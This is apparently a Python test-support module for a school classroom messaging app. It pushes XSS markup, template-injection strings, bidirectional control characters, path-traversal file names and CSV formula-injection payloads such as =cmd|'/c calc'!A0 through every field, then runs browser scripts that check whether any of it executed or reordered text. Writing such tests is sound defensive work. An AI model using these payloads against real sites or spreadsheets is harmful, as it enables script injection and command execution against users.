"""What nobody writes kindly: words made to come alive, to reach beyond themselves, to hide, to stack or to flood."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from itertools import cycle, islice

from conversation import Someone
from served import Served
from uploads import photo, voice

from commands.message import Form, Message

MARKS = "\u0301\u0323"
TOWER = "Z" + MARKS * 5_000
WORD = "w" * 5_000
FLOOD = 1 << 20  # bytes

# Each of these sets the flag, opens a dialog or asks somewhere else, if it is ever more than words.
MARKUP = (
    "<script>window.alive=1</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "<iframe srcdoc='<script>parent.alive=1</script>'>",
    "</textarea></title></script><svg/onload=alert(1)>",
    "</p></article></main><h1>Silta",
    "<b>bold</b> <a href=javascript:alert(1)>here</a>",
    "<link rel=stylesheet href=//x.invalid/a.css><img src=//x.invalid/a.png>",
    "<!-- -- --> <![CDATA[ ]]>",
    "<base href=//x.invalid><meta http-equiv=refresh content=0>",
    'data-seat="5" data-mine',
    "`${alert(1)}` \\u003cscript\\u003e",
)
LINKS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "[x](http://x.invalid)", "//x.invalid/a")
TEMPLATES = (
    "{{7*7}} {% raw %} {# x #}",
    "{0} {alias} {n} {} {x!r} %s %(n)s %d ${x}",
    "<b>{school}</b> <a href={link}>",
    "&lt;b&gt; &amp; &#60;i&#62; &nbsp",
    "⟦x⟧ \\n \\1 $& $1",
)
MENTIONS = ("@everyone", "<@1>", "@admin *bold* _x_ ~~y~~", "#1 <#2> :tada:")
ALIVE = (*MARKUP, *LINKS, *TEMPLATES, *MENTIONS)

# Whatever reorders text beyond itself; none of it may ever be shown.
CONTROLS = "".join(map(chr, (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))))
BIDI = (
    "\u202eevil\u202c \u202eoof",
    "\u2067\u2066x\u202dy",
    f"a{CONTROLS}b",
    "\u200fabc\u200e\u061c",
)
RIGHT_TO_LEFT = ("مدرسة النور!", "بيت 12 (ب)", "בית ספר 7.", "שרה & דן")
BROKEN = (
    "nul \x00 bell \x07 escape \x1b[31m",
    "\ud800 half \udfff",
    "a\x08\x0b\x0c\x7f\x85\x9fb",
    "\u2028line\u2029paragraph",
    "\ufffe\uffff\U000e0001\ufff9",
)
HIDDEN = ("a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",)
EMOJI = ("👩\u200d👩\u200d👧\u200d👦 🇫🇮🇪🇸 👍🏽", "❤\ufe0f\u200d🔥 1\ufe0f\u20e3 🏴󠁧󠁢󠁥󠁮󠁧󠁿")
WIDE = ("﷽﷽", "𒐫𒐫 ⸻⸻", "W" * 60)
NAMES = ("CON", "../../x", "..\\..\\nul.csv", "a\x00.zip", "/etc/passwd", "%2e%2e%2f")

# OWASP's list, what an eye or a spreadsheet passes over before it, and what makes two cells of one.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1 ﹣1 ﹦1",
    " =1+1",
    "\u00a0\u3000\u2003=1+1",
    "\u200b\u2060\ufeff\u00ad=1+1",
    "\u200b \u200d\t=1+1",
    "=cmd|'/c calc'!A0",
    "x\n=cmd|'/c calc'!A0",
    "x,=cmd|'/c calc'!A0,y",
    "x;=cmd|'/c calc'!A0;y",
    "x,\"=cmd|'/c calc'!A0\",y",
    "x\t\u200b@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid?"&A1,"here")',
    '";=HYPERLINK("http://x.invalid","y");"',
    '","=1+1","',
    '"\r\n"=1+1"',
    '"=1+1"',
    "'=1+1",
    "a;b,c\td|e",
)

SHORT_ONES = (*RIGHT_TO_LEFT, *BIDI, *HIDDEN, *EMOJI, *MENTIONS, *NAMES)
WORDS = (*ALIVE, *BIDI, *RIGHT_TO_LEFT, *BROKEN, *HIDDEN, *EMOJI, *WIDE, *NAMES, *FORMULAS, TOWER, WORD)

# How somebody would look for it: text by text, from the top of the page to its end.
STRANGE = """() => {
  const found = [];
  if (window.alive) found.push('a script ran');
  for (const each of document.querySelectorAll('body *')) {
    const start = each.outerHTML.slice(0, 90);
    if (each.getAttributeNames().some(name => name.startsWith('on'))) found.push('handler ' + start);
    if (/^(script|object|embed|base|link|meta|style)$/i.test(each.localName)) found.push(start);
    for (const name of ['href', 'src', 'action', 'srcdoc', 'formaction'])
      if (each.hasAttribute(name) && !/^(\\/(?!\\/)|#)/.test(each.getAttribute(name))) found.push('leads to ' + start);
  }
  if (/[\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]/.test(document.documentElement.outerHTML))
    found.push('a control');
  const wide = document.scrollingElement.scrollWidth - innerWidth;
  if (wide > 0) found.push(`${wide} pixels beyond the edge`);
  return [...new Set(found)];
}"""

# Whole values and what stands between them, each on one line, must stand as in the text: from left to right.
REORDERED = """values => {
  const rests = (text) => {
    const cuts = new Set([0, text.length]);
    for (const value of values)
      for (let at = text.indexOf(value); at >= 0; at = text.indexOf(value, at + 1))
        cuts.add(at).add(at + value.length);
    const sorted = [...cuts].sort((a, b) => a - b);
    return sorted.slice(1).map((end, i) => [sorted[i], end]).filter(([a, b]) => text.slice(a, b).trim());
  };
  const blocks = new Map(), found = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node; (node = walker.nextNode()); ) {
    if (!node.parentElement.checkVisibility() || node.parentElement.closest('.words, .hidden, .skip')) continue;
    const block = node.parentElement.closest('p, h1, h2, h3, h4, h5, li, a, label, summary, button, div, body');
    if (getComputedStyle(block).direction === 'rtl') continue;
    for (const [start, end] of rests(node.data)) {
      const range = new Range();
      range.setStart(node, start + node.data.slice(start, end).search(/\\S/));
      range.setEnd(node, start + node.data.slice(start, end).trimEnd().length);
      const boxes = [...range.getClientRects()].filter(box => box.width > 0);
      const one = boxes.length && boxes.every(box => Math.abs(box.top - boxes[0].top) < 8);
      const left = Math.min(...boxes.map(box => box.left)), right = Math.max(...boxes.map(box => box.right));
      if (!blocks.has(block)) blocks.set(block, []);
      blocks.get(block).push(one ? {left, right, top: boxes[0].top, says: range.toString()} : null);
    }
  }
  for (const runs of blocks.values())
    runs.slice(1).forEach((next, i) => {
      const before = runs[i];
      if (before && next && Math.abs(before.top - next.top) < 8 && next.left < before.right - 1.5)
        found.push(`${before.says.slice(0, 60)} | ${next.says.slice(0, 60)}`);
    });
  return found;
}"""


def sent(words: str) -> str:
    """As a browser sends it: half a character cannot travel."""
    return words.encode("utf-8", "replace").decode()


def names(longest: int, number: int, begin: int = 0) -> list[str]:
    """So many different hostile names that fit, from some place in the list on."""
    fitting = list(dict.fromkeys(sent(each)[:longest].strip() for each in (*SHORT_ONES, *ALIVE, *FORMULAS)))
    return list(islice(cycle(fitting), begin, begin + number))


def pieces(longest: int) -> list[str]:
    """All of it as texts that fit, as many in one as there is room for."""
    found, text = [], ""
    for each in map(sent, WORDS):
        if len(text) + len(each) + 1 > longest and text:
            found.append(text)
            text = ""
        text = f"{text} {each}".strip()[:longest]
    return [*found, text]


@dataclass(frozen=True)
class Haunting:
    """Where it is: the first class, the second, and the founder's other project with its only class."""

    room: int
    other: int
    elsewhere: int
    project: int


async def haunted(site: Served, called: Sequence[str], texts: Sequence[str] = ()) -> Haunting:
    """Everybody is called so, and writes all of it: in one's own class, to other schools, in the staff room."""
    it, names, wrote = site.it, cycle(called), cycle(texts or pieces(480))
    for school, (_, *seats) in site.cast.items():
        teacher = it.teacher(school)
        await done(teacher, "classroom set", school=next(names)[:30], name=next(names)[:20])
        for role in seats:
            await done(teacher, "classroom rename", seat=role.seat, alias=next(names)[:30])
        await done(teacher, "classroom apart", first=seats[0].seat, second=seats[1].seat)
        await done(teacher, "note write", at="staff", text=next(wrote))
    first, *_ = (it.teacher(school) for school in site.cast)
    await done(first, "icebreaker open", question=next(wrote)[:200])
    for school in site.cast:
        await answered(site, school, next(wrote), next(wrote))
        reply = (await it.teacher(school).says("/review show")).reply
        assert isinstance(reply, Message)
        await done(it.teacher(school), "review all", **reply.buttons[0].action.arguments)
    for number, school in enumerate(site.cast):
        for pupil in (it.pupil(school), it.pupil(school, 1)):
            await done(pupil, "icebreaker reply", item=(2 * number + 2) % 8 + 1, text=next(wrote))
            await done(pupil, "note write", text=next(wrote))
        await it.teacher(school).presses("Yes, publish", at="desk", on="Reply")
        await done(it.pupil(school, 1), "icebreaker answer", text=next(wrote))
    await it.teacher(school).presses("Return with a word", at="desk", on="Answer", word=next(wrote)[:300])
    await site.it.delivers()
    rooms = [roles[0].room for roles in site.cast.values()]
    return Haunting(rooms[0], rooms[1], *await another_project(first, next(names), next(names), next(names)))


async def answered(site: Served, school: str, one: str, other: str) -> None:
    """Two pupils of a class have answered, one with a picture, the other with their voice."""
    pupils = site.it.pupil(school), site.it.pupil(school, 1)
    await done(pupils[0], "icebreaker answer", text=one, picture=photo(), description=other[:250])
    await done(pupils[1], "icebreaker answer", text=other)
    await done(pupils[1], "icebreaker show")
    await pupils[1].presses("Add your voice", voice=voice(), description=one)


async def another_project(founder: Someone, title: str, alias: str, school: str) -> tuple[int, int]:
    """A teacher begins one more project, as somebody else: their room in it, and its number."""
    await founder.does("project new", title=title)
    await founder.fills(alias=alias, school=school, name=title[:20], country="FI", language="en")
    return len(founder.it.cast) + 1, founder.role.project + 1


async def done(someone: Someone, command: str, **how: object) -> None:
    """Nothing of it is refused or asked about."""
    heard = await someone.does(command, **how)
    assert not heard.refused, (command, how, heard.text)
    assert not isinstance(heard.reply, Form), (command, how, heard.text)
